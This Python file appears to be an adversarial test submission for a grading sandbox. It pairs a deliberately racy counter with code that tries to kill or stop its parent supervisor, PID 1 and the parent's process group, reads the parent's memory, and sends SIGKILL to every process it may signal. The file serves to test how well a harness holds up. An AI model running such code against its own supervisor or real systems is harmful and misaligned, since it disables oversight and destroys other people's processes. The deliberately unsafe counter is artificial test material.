"""Attack: kill the supervisor. The racy counter (honestly 6/10), whose parallel_count first
tries to kill (or stop) its parent, the container's PID 1 and the parent's process group,
and in parallel_count(3, 0) sends SIGKILL to every process it may signal (kill(-1); Linux
spares the caller, so only the student's other processes, if any, die). parallel_count(2, 100)
reports what the attempts did."""

import os
import signal
import threading

ATTEMPTS = []


def _attack_parent():
    parent = os.getppid()
    for what, fn in [
            (f"kill({parent}, SIGKILL)", lambda: os.kill(parent, signal.SIGKILL)),
            (f"kill({parent}, SIGSTOP)", lambda: os.kill(parent, signal.SIGSTOP)),
            ("kill(1, SIGKILL)", lambda: os.kill(1, signal.SIGKILL)),
            ("killpg(parent's group)", lambda: os.killpg(os.getpgid(parent), signal.SIGKILL)),
            ("ptrace-read parent's memory", lambda: open(f"/proc/{parent}/mem", "rb").read(1))]:
        try:
            fn()
            ATTEMPTS.append(f"{what}: worked")
        except OSError as exc:
            ATTEMPTS.append(f"{what}: {type(exc).__name__}")


class SafeCounter:
    def __init__(self):
        self._lock = threading.Lock()
        self._value = 0

    def increment(self, k=1):
        self._value += k

    def decrement(self, k=1):
        with self._lock:
            self._value -= k

    @property
    def value(self):
        with self._lock:
            return self._value


def parallel_count(n_threads, n_increments):
    _attack_parent()
    if n_threads == 2:
        raise RuntimeError("; ".join(ATTEMPTS))
    if n_threads == 3:
        os.kill(-1, signal.SIGKILL)  # everything this user may signal, this process included
    c = SafeCounter()

    def work():
        for _ in range(n_increments):
            c.increment()

    ts = [threading.Thread(target=work) for _ in range(n_threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return c.value
